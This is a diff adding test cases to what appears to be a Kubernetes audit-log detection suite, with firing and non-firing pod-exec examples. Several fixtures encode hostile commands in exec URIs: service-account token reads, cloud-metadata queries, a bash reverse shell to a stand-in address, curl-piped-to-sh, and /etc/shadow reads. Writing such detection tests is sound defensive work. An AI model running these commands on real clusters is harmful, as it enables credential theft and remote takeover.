@@ -269,6 +269,13 @@ SA = "system:serviceaccount:"
 # -- the table ----------------------------------------------------------------------------------
 # rule id → (fires, does not fire)
 
+
+def exec_cmd(command: str, code: int = 101) -> dict:
+    """A kubectl exec of ``command`` (the URI's query after the first ``command=``)."""
+    uri = f"/api/v1/namespaces/default/pods/web/exec?command={command}&container=c&stdout=true"
+    return req("create", "pods", sub="exec", name="web", code=code, uri=uri)
+
+
 CASES: dict[str, tuple[Source | Case, Source | Case]] = {
     # who is calling
     "disallowed-user": (
@@ -428,6 +435,46 @@ CASES: dict[str, tuple[Source | Case, Source | Case]] = {
     "ephemeral-containers": (
         lambda: [req("patch", "pods", sub="ephemeralcontainers", name="web")],
         lambda: [req("patch", "pods", sub="ephemeralcontainers", name="web", code=422)],
+    ),
+    # what an exec ran (more cases: test_findings_exec.py): an exec whose URI carries the
+    # command, and the same exec running something plain
+    "exec-refused": (
+        lambda: [req("create", "pods", sub="exec", name="web", code=403, decision="forbid")],
+        lambda: [req("create", "pods", sub="exec", name="web", code=101)],
+    ),
+    "exec-token-theft": (
+        lambda: [exec_cmd("cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken")],
+        lambda: [exec_cmd("ls")],
+    ),
+    "exec-cloud-metadata": (
+        lambda: [exec_cmd("curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data")],
+        lambda: [exec_cmd("curl&command=http%3A%2F%2F10.0.0.1%2F")],
+    ),
+    "exec-reverse-shell": (
+        lambda: [
+            exec_cmd("bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F4+0%3E%261")
+        ],
+        lambda: [exec_cmd("bash&command=-i")],
+    ),
+    "exec-download-run": (
+        lambda: [exec_cmd("sh&command=-c&command=curl+-s+http%3A%2F%2Fx%2Fa+%7C+sh")],
+        lambda: [exec_cmd("sh&command=-c&command=curl+-s+http%3A%2F%2Fx%2Fa+%7C+grep+a")],
+    ),
+    "exec-fetch-https": (
+        lambda: [exec_cmd("curl&command=https%3A%2F%2F203.0.113.9%2Fx")],
+        lambda: [exec_cmd("curl&command=https%3A%2F%2Fkubernetes.default.svc%2F")],
+    ),
+    "exec-kubectl-cp": (
+        lambda: [exec_cmd("tar&command=cf&command=-&command=%2Fdata")],
+        lambda: [exec_cmd("tar&command=xf&command=-&command=-C&command=%2Ftmp")],
+    ),
+    "exec-sensitive-file": (
+        lambda: [exec_cmd("cat&command=%2Fetc%2Fshadow")],
+        lambda: [exec_cmd("cat&command=%2Fetc%2Fhostname")],
+    ),
+    "exec-command-refused": (
+        lambda: [exec_cmd("cat&command=%2Fetc%2Fshadow", code=403)],
+        lambda: [exec_cmd("cat&command=%2Fetc%2Fhostname", code=403)],
     ),
     # namespaces, services, config
     "nodeport-service": (
